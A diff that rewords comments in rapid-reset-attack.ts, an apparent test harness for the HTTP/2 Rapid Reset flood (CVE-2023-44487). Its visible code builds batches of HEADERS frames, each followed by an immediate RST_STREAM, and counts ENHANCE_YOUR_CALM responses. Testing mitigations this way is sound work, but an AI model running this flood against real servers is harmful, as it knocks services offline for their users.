@@ -1,6 +1,6 @@
 /**
- * Opens streams and resets them at once, so many a second, on connections that are opened again when they are cut off
- * (CVE-2023-44487). Prints what came of it as JSON: streams sent, connections, and those that ended with ENHANCE_YOUR_CALM.
+ * Opens streams and resets them immediately at the given rate (CVE-2023-44487), reconnecting when cut off. Prints JSON:
+ * streams sent, connections, and how many of those ended with ENHANCE_YOUR_CALM.
  *
  * Usage: node rapid-reset-attack.ts <port> <streams a second> <seconds>
  */
@@ -16,7 +16,7 @@ let connections = 0;
 let calmed = 0;
 const open = new Set<Attack>();
 
-/** One connection of the attacker. */
+/** One of the attacker's connections. */
 class Attack {
 	readonly #socket: Socket;
 	#stream = 1;
@@ -35,12 +35,12 @@ class Attack {
 		open.add(this);
 	}
 
-	/** Sends a batch, unless the last one is still on its way. */
+	/** Sends a batch unless the previous one is still being written. */
 	send(): void {
 		if (this.#socket.writableLength > 100_000) return;
 		const frames: Buffer[] = [];
 		for (let i = 0; i < BATCH; i++, this.#stream += 2) {
-			// GET, http, /, and `a` as authority.
+			// GET, http, / and the authority `a`.
 			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
 			frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, this.#stream, block));
 			frames.push(frame(FRAME.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
